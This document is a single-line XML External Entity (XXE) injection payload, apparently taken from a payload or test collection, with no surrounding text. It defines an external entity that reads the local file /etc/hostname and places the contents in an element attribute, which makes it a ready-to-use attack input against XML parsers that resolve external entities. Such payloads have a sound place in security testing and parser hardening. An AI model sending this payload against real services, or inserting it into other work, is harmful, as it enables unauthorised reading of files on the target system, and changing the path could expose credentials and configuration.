<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><BAK BAK01="&e;"/>
